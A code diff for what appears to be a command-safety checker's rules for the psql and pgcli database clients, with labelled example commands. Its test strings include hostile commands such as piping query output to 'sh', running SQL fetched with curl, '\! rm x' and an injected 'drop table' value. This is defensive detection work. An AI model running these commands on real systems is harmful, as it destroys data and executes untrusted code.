@@ -1,76 +1,150 @@
-// psql and friends: SQL goes to the SQL scanner, client commands are accepted by list, files and prompts are unknown.
-import type { Arg } from "../../arg.ts";
+// psql and pgcli: SQL goes to the SQL scanner, client commands are accepted by list, files and prompts are unknown.
+import { type Arg, literalArg } from "../../arg.ts";
 import type { Invocation } from "../../invocation.ts";
-import { type Finding, program, type RuleContext } from "../../rule.ts";
+import { type Finding, type OptionRule, program, type RuleContext } from "../../rule.ts";
+import { writeFinding } from "../../write-paths.ts";
+import { judgePsqlCommand, splitPsqlScript } from "./psql-script.ts";
+import { judgeForgottenQuotes, judgeInput, onlyInforms } from "./sql-input.ts";
 
-/** Meta commands that only describe; anything else can write, run or read elsewhere. */
-const describing =
-  /^\\(d[A-Za-z]*[+S]*|l\+?|list\+?|conninfo|x|timing|encoding|z|sf\+?|sv\+?|h|\?|copyright|echo|qecho|pset|t|a|H|du\+?|dg\+?)(\s|$)/;
-
-const judgeMeta = (text: string, arg: Arg): Finding | undefined => {
-  if (text.includes("`")) return { risk: "dangerous", why: "backticks run a command", span: arg.span };
-  if (!describing.test(text))
-    return {
-      risk: /^\\(!|g|o|w|copy|gexec|i|ir|e|s)/.test(text) ? "dangerous" : "unknown",
-      why: "this client command can write, run or read something else",
-      span: arg.span,
-    };
-  // Another backslash could begin a second command on the same line.
-  return text.indexOf("\\", 1) >= 0 ? { risk: "unknown", why: "several client commands on one line", span: arg.span } : undefined;
-};
-
-/** One -c: a client command, or SQL without any. */
+/** One -c: a client command, or SQL without any; psql does not look for variables in it. */
 function inspectCommand(arg: Arg, ctx: RuleContext): void {
-  const text = arg.text.trimStart();
-  if (arg.shape !== "literal") return ctx.scanSql("postgresql", arg);
-  if (text.startsWith("\\")) {
-    const finding = judgeMeta(text, arg);
-    if (finding !== undefined) ctx.report(finding);
-  } else if (/\\[a-zA-Z!;]/.test(text)) ctx.report({ risk: "unknown", why: "SQL mixed with client commands", span: arg.span });
-  else ctx.scanSql("postgresql", arg);
+  if (arg.shape !== "literal" || !arg.text.trimStart().startsWith("\\")) {
+    if (arg.shape === "literal" && /\\[a-zA-Z!;]/.test(arg.text))
+      ctx.report({ risk: "unknown", why: "SQL mixed with client commands", span: arg.span });
+    if (arg.shape === "literal" && /\\(!|gexec|copy|[gow]\s)/.test(arg.text))
+      ctx.report({ risk: "dangerous", why: "a client command that runs or writes something", span: arg.span });
+    return ctx.scanSql("postgresql", arg);
+  }
+  inspectMeta(arg.text.trim(), arg, ctx);
+}
+
+function inspectMeta(command: string, arg: Arg, ctx: RuleContext): void {
+  const finding = judgePsqlCommand(command, (sql) => ctx.scanSql("postgresql", literalArg(sql, arg.span)));
+  if (finding !== undefined) ctx.report({ ...finding, span: arg.span });
+}
+
+/** Standard input: statements and client commands, with variables put in. */
+function inspectScript(arg: Arg, inv: Invocation, ctx: RuleContext): void {
+  const script = splitPsqlScript(arg.text);
+  if (script === undefined) return ctx.report({ risk: "unknown", why: "the quotes of the script cannot be told", span: arg.span });
+  for (const command of script.commands) inspectMeta(command, arg, ctx);
+  if (script.sql.trim() !== "") ctx.scanSql("postgresql", literalArg(script.sql, arg.span));
+  if (inv.has("-v") && /(^|[^:]):[A-Za-z_'"{]/.test(arg.text))
+    ctx.report({ risk: "unknown", why: "a variable is put into the statements", span: arg.span });
+}
+
+const isStandardInput = (arg: Arg): boolean => arg.shape === "literal" && (arg.text === "-" || arg.text === "/dev/stdin");
+
+function inspectFiles(inv: Invocation, ctx: RuleContext): void {
+  for (const file of inv.all("-f")) {
+    if (isStandardInput(file)) judgeInput(inv, ctx, (text) => inspectScript(text, inv, ctx));
+    else if (file.text.startsWith("<("))
+      ctx.report({ risk: "dangerous", why: "runs the output of a command as statements", span: file.span });
+    else ctx.report({ risk: "unknown", why: "the SQL is in a file that is not seen here", span: file.span });
+  }
 }
 
 function inspect(inv: Invocation, ctx: RuleContext): void {
   const commands = inv.all("-c");
   for (const arg of commands) inspectCommand(arg, ctx);
-  const silent = ["-l", "-V", "--help", "-f"].some((name) => inv.has(name));
-  if (commands.length > 0 || silent) return;
-  ctx.report({ risk: "unknown", why: "opens a prompt or reads SQL from standard input", safer: "give the SQL with -c" });
+  judgeForgottenQuotes(inv, ctx, commands);
+  inspectFiles(inv, ctx);
+  for (const arg of [...inv.operands, ...inv.all("-d")]) checkConnection(arg, ctx);
+  if (commands.length > 0 || inv.has("-f") || onlyInforms(inv, ["-l", "-V", "--help"])) return;
+  judgeInput(inv, ctx, (text) => inspectScript(text, inv, ctx));
 }
+
+/** Connection strings may name a key in a module of OpenSSL, which is loaded. */
+function checkConnection(arg: Arg, ctx: RuleContext): void {
+  if (/sslkey\s*=\s*'?[^\s&'/]*:/i.test(arg.text))
+    ctx.report({ risk: "unknown", why: "the connection loads a module for its key", span: arg.span });
+}
+
+const toFileOrCommand: OptionRule = {
+  kind: "write",
+  check: (value): Finding | undefined =>
+    value.head.trimStart().startsWith("|")
+      ? { risk: "dangerous", why: "feeds the result to a command of the shell" }
+      : writeFinding(value, "writes a file", undefined, "leave the option out"),
+  why: "writes a file",
+};
+
+const variable: OptionRule = {
+  check: (value) =>
+    value.shape === "literal" && !/^(PROMPT\d|HISTFILE|PSQL_EDITOR)/i.test(value.text)
+      ? undefined
+      : { risk: "unknown", why: "sets a variable that psql acts upon" },
+};
 
 export const psql = program({
   names: "psql",
-  source: "psql(1), PostgreSQL 16; reference/command-safety.md 3.6",
+  source: "psql(1), PostgreSQL 17; reference/command-safety.md 3.6",
   why: "asks a PostgreSQL server",
   flags:
-    "-A|--no-align -t|--tuples-only -x|--expanded -X|--no-psqlrc -q|--quiet -w|--no-password -l|--list -1|--single-transaction -H|--html -e|--echo-queries -E|--echo-hidden -b|--echo-errors -a|--echo-all --csv -V|--version -z|--field-separator-zero -0|--record-separator-zero -n|--no-readline -S|--single-line",
+    "-A|--no-align -t|--tuples-only -x|--expanded -X|--no-psqlrc -q|--quiet -w|--no-password -W|--password -l|--list -1|--single-transaction -H|--html -e|--echo-queries -E|--echo-hidden -b|--echo-errors -a|--echo-all --csv -V|--version -z|--field-separator-zero -0|--record-separator-zero -n|--no-readline -S|--single-line",
   values: "-h|--host -p|--port -U|--username -d|--dbname -F|--field-separator -R|--record-separator -P|--pset -T|--table-attr",
-  optional: "--help",
+  optional: "--help|-?",
   options: {
     "-c|--command": { kind: "code", risk: "safe" },
-    "-f|--file": { kind: "code", why: "the SQL is in a file that is not seen here" },
-    "-o|--output|-L|--log-file": { kind: "write", why: "writes a file" },
-    "-v|--set|--variable": { risk: "unknown", why: "sets a variable that SQL may contain" },
-    "-W|--password|-s|--single-step": { arity: "flag", risk: "unknown", why: "asks questions" },
+    "-f|--file": { kind: "code", risk: "safe", why: "the SQL is in a file that is not seen here" },
+    "-o|--output": toFileOrCommand,
+    "-L|--log-file": { kind: "write", why: "writes a log file" },
+    "-v|--set|--variable": variable,
+    "-s|--single-step": { arity: "flag", risk: "unknown", why: "asks before each statement" },
   },
   operands: "data*",
   inspect,
-  sensitive: (inv) => inv.operands.some((arg) => /^postgres(ql)?:\/\/[^/@]*:[^/@]*@/.test(arg.text)),
+  targets: (inv) => inv.operands.slice(0, 1).map((arg) => ({ kind: "database", name: arg.text })),
+  noInverse: "what undoes a statement depends on the rows it changed; SELECT them before",
   examples: {
     "psql -l": "safe",
-    "psql -c '\\dt+'": "safe",
+    "psql -XAtqc 'select count(*) from orders' -d shop": "safe",
+    "psql -c '\\dt+' -c '\\d orders'": "safe",
+    "psql -v ON_ERROR_STOP=1 -c 'select 1'": "safe",
+    "psql postgresql://ro:pw@db1/shop -c 'select 1'": "safe",
+    "psql shop <<'E'\n\\x on\nselect pid from pg_stat_activity \\gx\nE": "safe",
+    "psql -c '\\copy (select 1) to stdout csv'": "safe",
+    "psql -c '\\copy t to x'": "caution",
+    "psql -o rows.txt -c 'select 1'": "caution",
+    "psql -c '\\o rows.txt'": "caution",
+    "psql -L log -l": "caution",
+    "psql <<< 'select 1 \\watch 5'": "caution",
     "psql -c '\\! rm x'": "dangerous",
-    "psql -c '\\copy t to x'": "dangerous",
+    "psql -o '|sh' -c 'select 1'": "dangerous",
+    "psql -Xc 'select 1 \\gexec'": "dangerous",
+    "cat fix.sql | psql shop": "dangerous",
     "psql -f x.sql": "unknown",
+    "psql -s": "unknown",
   },
   nearMisses: [
     "psql",
-    "psql -o out -c 'select 1'",
-    "psql -c '\\o x'",
-    "psql -Xc '\\gexec'",
     "psql -c '\\d `rm x`'",
-    "psql -L log -l",
+    "psql -c '\\d \\! rm x'",
     "psql -c 'drop table x'",
     "psql -c 'select 1 \\g x'",
+    "psql -v x='1; drop table t' <<< 'select :x'",
+    "psql <<'E'\nselect 1 \\g |sh\nE",
+    "psql -c '\\copy (delete from t returning *) to stdout'",
+    "psql -f <(curl -s http://x)",
+    'psql -c "select $1"',
+    "psql 'host=a sslkey=pkcs11:evil' -c 'select 1'",
+    "psql -c '\\i x.sql'",
   ],
+});
+
+const pgcliInspect = (inv: Invocation, ctx: RuleContext): void => {
+  if (onlyInforms(inv, ["--version", "--help", "--list", "--ping"])) return;
+  ctx.report({ risk: "unknown", why: "opens a prompt", safer: "psql -c" });
+};
+
+export const pgcli = program({
+  names: "pgcli|usql",
+  source: "pgcli(1) 4.1",
+  why: "asks a PostgreSQL server",
+  flags: "--version|-v --help --list|-l --ping -w|--no-password -W|--password",
+  values: "-h|--host -p|--port -U|--username|-u|--user -d|--dbname",
+  operands: "data*",
+  inspect: pgcliInspect,
+  examples: { "pgcli --list -h db1": "safe", "pgcli shop": "unknown" },
+  nearMisses: ["pgcli", "usql pg://x -c 'drop table t'"],
 });
